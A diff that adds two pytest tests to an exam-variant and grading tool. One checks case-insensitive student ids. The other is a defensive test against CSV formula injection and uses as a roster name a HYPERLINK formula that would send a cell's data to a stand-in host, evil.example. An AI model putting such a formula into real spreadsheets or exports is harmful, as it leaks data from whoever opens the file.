@@ -571,3 +571,43 @@ def test_a_range_past_the_class_is_refused(tmp_path, capsys):
     argv = ["--variants", "3", "--seed", "1", "--out", str(tmp_path / "o"), "--only", "3-9"]
     assert build.main(argv) == 2
     assert "--only 3-9: the class has 3 members" in capsys.readouterr().err
+
+
+@pytest.mark.tex
+def test_ids_match_whatever_their_case(roster_class, tmp_path, capsys):
+    """A roster refuses ids that differ only in case, so S1001 is s1001 (it was unmatched)."""
+    key = _key_rows(roster_class)
+    responses = tmp_path / "responses.csv"
+    responses.write_text(f"id,loss\nS1001,{key[0]['loss']}\n")
+    grades = tmp_path / "grades.csv"
+    argv = ["grade", "--class", str(roster_class), "--responses", str(responses)]
+    assert build.main([*argv, "--out", str(grades)]) == 0
+    assert "no member" not in capsys.readouterr().err
+    rows = list(csv.DictReader(io.StringIO(grades.read_text())))
+    assert rows[0]["id"] == "s1001" and rows[0]["loss_ok"] == "1"
+
+
+@pytest.mark.tex
+def test_names_that_are_formulas_reach_the_csvs_as_text(tmp_path):
+    """Roster names a spreadsheet would run (OWASP's CSV injection) are written beginning
+    with a quote in answer-key.csv and grades.csv; the PDFs print them as typed."""
+    names = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "-2+3"]
+    roster = tmp_path / "roster.csv"
+    with open(roster, "w", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["id", "name"])
+        writer.writerows([["s1", names[0]], ["s2", names[1]]])  # ids name files: never formulas
+    out = tmp_path / "class"
+    argv = ["variants", "--roster", str(roster), "--seed", "3", "--jobs", "1", "--out", str(out)]
+    assert build.main(argv) == 0
+    key = list(csv.DictReader(io.StringIO((out / "answer-key.csv").read_text())))
+    cells = [(r["id"], r["name"]) for r in key]
+    assert cells == [("s1", "'" + names[0]), ("s2", "'" + names[1])]
+    responses = tmp_path / "responses.csv"
+    responses.write_text(f"id,loss\ns1,{key[0]['loss']}\ns2,0\n")
+    grades = tmp_path / "grades.csv"
+    args = ["grade", "--class", str(out), "--responses", str(responses), "--out", str(grades)]
+    assert build.main(args) == 0
+    rows = list(csv.DictReader(io.StringIO(grades.read_text())))
+    assert [(r["id"], r["name"]) for r in rows] == cells
+    assert names[1] in pdftext(out / "handouts" / "s2.pdf", 1)  # as typed: no quote
